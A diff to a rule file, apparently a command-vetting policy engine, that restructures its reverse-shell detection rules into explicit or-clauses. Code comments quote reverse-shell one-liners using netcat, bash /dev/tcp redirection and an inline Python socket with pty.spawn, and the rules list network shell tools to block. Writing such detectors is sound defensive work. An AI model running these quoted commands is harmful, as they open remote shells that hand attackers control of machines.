@@ -21,9 +21,12 @@
 ;; `nc host 4444 -c bash`: netcat executing a program wired to the socket is a (bind or
 ;; reverse) shell.
 (defrule shell-reverse-shell-nc-exec
-  (shell-command (proposal ?id)
-                 (program "nc"|"ncat"|"netcat"|"nc.traditional"|"nc.openbsd"|"busybox")
-                 (flags $? ?f&:(revshell-nc-exec-flag-p ?f) $?))
+  (or (shell-command (proposal ?id) (program "nc") (flags $? ?f&:(revshell-nc-exec-flag-p ?f) $?))
+      (shell-command (proposal ?id) (program "ncat") (flags $? ?f&:(revshell-nc-exec-flag-p ?f) $?))
+      (shell-command (proposal ?id) (program "netcat") (flags $? ?f&:(revshell-nc-exec-flag-p ?f) $?))
+      (shell-command (proposal ?id) (program "nc.traditional") (flags $? ?f&:(revshell-nc-exec-flag-p ?f) $?))
+      (shell-command (proposal ?id) (program "nc.openbsd") (flags $? ?f&:(revshell-nc-exec-flag-p ?f) $?))
+      (shell-command (proposal ?id) (program "busybox") (flags $? ?f&:(revshell-nc-exec-flag-p ?f) $?)))
   =>
   (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-nc-exec)
                     (reason "netcat executing a program on a socket"))))
@@ -31,7 +34,8 @@
 ;; Stops `bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`, `sh -i 5<> /dev/tcp/h/p`,
 ;; `exec 3<>/dev/udp/h/p`: bash's network redirections attach the shell to a socket.
 (defrule shell-reverse-shell-dev-tcp
-  (shell-redirect (proposal ?id) (target ?t) (path ?p&:(or (revshell-dev-net-p ?t) (revshell-dev-net-p ?p))))
+  (shell-redirect (proposal ?id) (target ?t) (path ?p&:(or (str-prefix "/dev/" ?t) (str-prefix "/dev/" ?p))
+                         &:(or (revshell-dev-net-p ?t) (revshell-dev-net-p ?p))))
   =>
   (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-dev-tcp)
                     (reason (str-cat "redirect to a network socket: " ?t)))))
@@ -58,9 +62,24 @@
 ;; Stops `python -c 'import socket,pty,os;s=socket.socket();s.connect((h,p));pty.spawn("sh")'`
 ;; and the perl/ruby/php/node equivalents: inline code that opens a socket and connects it.
 (defrule shell-reverse-shell-inline-socket
-  (shell-command (proposal ?id)
-                 (program ?p&"python"|"python2"|"python3"|"python3.8"|"python3.9"|"python3.10"|"python3.11"|"python3.12"|"python3.13"|"pypy"|"pypy3"|"perl"|"ruby"|"php"|"node"|"nodejs"|"lua"|"luajit")
-                 (argv $? ?a&:(revshell-socket-code-p ?a) $?))
+  (or (shell-command (proposal ?id) (program ?p&"python") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
+      (shell-command (proposal ?id) (program ?p&"python2") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
+      (shell-command (proposal ?id) (program ?p&"python3") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
+      (shell-command (proposal ?id) (program ?p&"python3.8") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
+      (shell-command (proposal ?id) (program ?p&"python3.9") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
+      (shell-command (proposal ?id) (program ?p&"python3.10") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
+      (shell-command (proposal ?id) (program ?p&"python3.11") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
+      (shell-command (proposal ?id) (program ?p&"python3.12") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
+      (shell-command (proposal ?id) (program ?p&"python3.13") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
+      (shell-command (proposal ?id) (program ?p&"pypy") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
+      (shell-command (proposal ?id) (program ?p&"pypy3") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
+      (shell-command (proposal ?id) (program ?p&"perl") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
+      (shell-command (proposal ?id) (program ?p&"ruby") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
+      (shell-command (proposal ?id) (program ?p&"php") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
+      (shell-command (proposal ?id) (program ?p&"node") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
+      (shell-command (proposal ?id) (program ?p&"nodejs") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
+      (shell-command (proposal ?id) (program ?p&"lua") (argv $? ?a&:(revshell-socket-code-p ?a) $?))
+      (shell-command (proposal ?id) (program ?p&"luajit") (argv $? ?a&:(revshell-socket-code-p ?a) $?)))
   =>
   (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-inline-socket)
                     (reason (str-cat ?p " inline code opens a network socket")))))
@@ -69,7 +88,12 @@
 ;; together with a network client is the netcat-without--e reverse shell.
 (defrule shell-reverse-shell-fifo
   (shell-command (proposal ?id) (program "mkfifo"|"mknod"))
-  (shell-command (proposal ?id) (program "nc"|"ncat"|"netcat"|"telnet"|"socat"|"openssl"))
+  (or (shell-command (proposal ?id) (program "nc"))
+      (shell-command (proposal ?id) (program "ncat"))
+      (shell-command (proposal ?id) (program "netcat"))
+      (shell-command (proposal ?id) (program "telnet"))
+      (shell-command (proposal ?id) (program "socat"))
+      (shell-command (proposal ?id) (program "openssl")))
   =>
   (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-fifo)
                     (reason "named pipe wired to a network client"))))
@@ -78,7 +102,12 @@
 ;; from (or feeding) a raw network connection.
 (defrule shell-reverse-shell-pipe-to-shell
   (shell-command (proposal ?id) (program "nc"|"ncat"|"netcat"|"telnet"|"socat"))
-  (shell-command (proposal ?id) (program "sh"|"bash"|"zsh"|"dash"|"ksh"|"mksh"))
+  (or (shell-command (proposal ?id) (program "sh"))
+      (shell-command (proposal ?id) (program "bash"))
+      (shell-command (proposal ?id) (program "zsh"))
+      (shell-command (proposal ?id) (program "dash"))
+      (shell-command (proposal ?id) (program "ksh"))
+      (shell-command (proposal ?id) (program "mksh")))
   =>
   (assert (decision (proposal ?id) (outcome reject) (rule shell-reverse-shell-pipe-to-shell)
                     (reason "shell wired to a network connection"))))
